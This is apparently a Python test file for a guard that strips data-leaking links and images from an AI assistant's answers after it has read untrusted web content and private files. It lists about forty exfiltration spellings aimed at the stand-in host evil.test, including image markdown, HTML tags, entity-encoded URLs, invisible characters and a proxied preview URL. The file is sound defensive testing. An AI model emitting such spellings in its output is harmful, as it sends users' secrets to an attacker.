"""Proves that whatever an answer makes a program load, or a person click, is found and can be taken out.

Mutation that it is shown to catch: a spelling left out, an address inside an address, an invisible character.
"""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from interlock import Conversation, Interlock, Manifest
from interlock.model.render import exits, inert, spec
from tests.ids import stable

EVIL = "evil.test"
SPELLINGS = [
    "![](https://evil.test/?d=x)",
    "![plan][p]\n\n[p]: https://evil.test/?d=x",
    "![p]\n\n[p]: <https://evil.test/?d=x> 'title'",
    "> - [p]: //evil.test/x\n\n[more][p]",
    "[more](https://evil.test/?d=x)",
    "[more](<https://evil.test/a b>)",
    "<https://evil.test/?d=x>",
    "See https://evil.test/?d=x.",
    "See evil.test/?d=x",
    "www.evil.test",
    "//evil.test/x",
    "\\\\evil.test\\share",
    "HTTPS://EVIL.TEST/x",
    "<img src=https://evil.test/x>",
    "<img src='//evil.test/x'",
    '<IMG\nSRC = "https://evil.test/x">',
    '<img srcset="https://evil.test/x 2x">',
    '<div style="background:url(//evil.test/x)">',
    '<svg><image xlink:href="https://evil.test/x"/></svg>',
    '<meta http-equiv=refresh content="0;url=https://evil.test/x">',
    '<a href="https://evil.test" ping="https://evil.test/p">x</a>',
    "<style>@import 'https://evil.test/x'</style>",
    "&#60;img src=https&colon;//evil.test/x&#62;",
    "![](https&#58;//evil.test/x)",
    "".join(f"&#{ord(one)};" for one in "https://evil.test/x"),
    "".join(f"&amp;#{ord(one)};" for one in "https://evil.test/x"),
    "![](https\\://evil.test/x)",
    "![](ｈｔｔｐｓ：／／ｅｖｉｌ．ｔｅｓｔ／ｘ)",
    "![](https://ev\u200bil.test/x)",
    "https://evil\u3002test/x",
    "mailto:eve@evil.test?body=x",
    "write to eve@evil.test",
    "ftp://evil.test/x",
    "javascript:fetch('//evil.test')",
    "![](/open?to=https://evil.test/x)",
    "https://previews.corp.example/load?u=https%3A%2F%2Fevil.test%2F%3Fd%3Dx",
    "https://previews.corp.example/load?u=%252F%252Fevil.test",
    "```\nhttps://evil.test/x\n```",
    "hello \U000e0061\U000e0062",
    "hello \u202eevil",
]


@pytest.mark.parametrize("text", SPELLINGS, ids=stable)
def test_every_spelling_is_an_exit_and_goes(text: str) -> None:
    found = exits(text)
    assert found
    if "evil" in text.lower():
        assert (
            any(EVIL in one for group in (found.addresses, found.mails, found.unread) for one in group) or found.unread
        )
    left = inert(text)
    assert not exits(left)
    assert EVIL not in left


@pytest.mark.parametrize(
    "text",
    [
        "",
        "Raise the price by 12 per cent.",
        "See [1] and (a) and `x = y < z`.",
        "def f(a: int) -> dict[str, int]:\n    return {a: b}  # note: x/y, a//b",
        "Run main.py, then README.md; ratio 3:4, at 12:30, C:\\Users\\kim.",
        "<b>bold</b> and a <br/> and a < b > c",
        "Grüße, 世界! 👩‍👩‍👧 ❤️ क्ष",
        "[x](#section)",
    ],
    ids=stable,
)
def test_plain_text_is_no_exit(text: str) -> None:
    assert not exits(text), exits(text)


_WORDS = r"""![ [ ] ]( ) < > <img_src= https: // / \ evil.test e@evil.test %2F &#47; &amp; " ' :
    www. a ]:_ url( mailto: data: . 。"""
_PIECES = st.sampled_from([*(one.replace("_", " ") for one in _WORDS.split()), " ", "\n", "\u200b", "\U000e0041"])


@given(st.lists(_PIECES, max_size=12).map("".join) | st.text(max_size=60))
def test_what_is_left_leads_nowhere(text: str) -> None:
    assert not exits(inert(text))


@given(st.text(max_size=30), st.sampled_from(SPELLINGS[:20]), st.text(max_size=30))
def test_no_surrounding_hides_an_exit(before: str, middle: str, after: str) -> None:
    assert exits(f"{before}\n\n{middle}\n\n{after}")


def test_a_long_text_costs_no_square() -> None:
    for text in ("![" * 50_000, "<a " * 50_000, "[a]: " * 30_000, "a=" * 100_000, "https:" * 30_000, "%25" * 60_000):
        exits(text)


def armed(**settings: object) -> tuple[Interlock, Conversation]:
    tools = {"read": {"returns": ["untrusted:web", "private:files"], "egress": "none"}}
    return Interlock(manifest=Manifest.parse({"version": 1, "tools": tools}), settings=settings), Conversation()


def test_a_tainted_answer_is_shown_without_its_exits() -> None:
    lock, conversation = armed()
    guard = lock.guard(conversation)
    clean = guard.render("![chart](https://charts.example/x)")
    assert clean.whole
    guard.call("read", {}, run=lambda: "x")
    plain = guard.render("The price is 12.")
    assert plain.whole
    shown = guard.render("Hello ![chart](https://charts.example/?d=secret)")
    assert not shown.whole
    assert shown.text == "Hello chart (image removed)"
    assert "trifecta" in shown.outcome.decision.codes
    assert "secret" not in shown.outcome.for_model


def test_what_the_person_named_is_shown() -> None:
    lock, conversation = armed()
    guard = lock.guard(conversation)
    conversation.say("Is https://docs.example/api up to date?")
    guard.call("read", {}, run=lambda: "x")
    assert guard.render("Yes, see https://docs.example/api").whole
    assert not guard.render("Yes, see https://docs.example/api?d=secret").whole


def test_a_host_that_is_vouched_for_passes_nothing_on() -> None:
    """Case 1: the previews of the house load whatever they are asked for."""
    lock, conversation = armed(hosts=["corp.example"])
    guard = lock.guard(conversation)
    guard.call("read", {}, run=lambda: "x")
    assert guard.render("![](https://pics.corp.example/logo.png)").whole
    assert not guard.render("![](https://previews.corp.example/load?u=https%3A%2F%2Fevil.test%2Fx)").whole


def test_the_spec_is_one_that_a_manifest_could_hold() -> None:
    made = spec()
    assert made.known
    assert made.sends
    assert not made.when[0].spec.sends
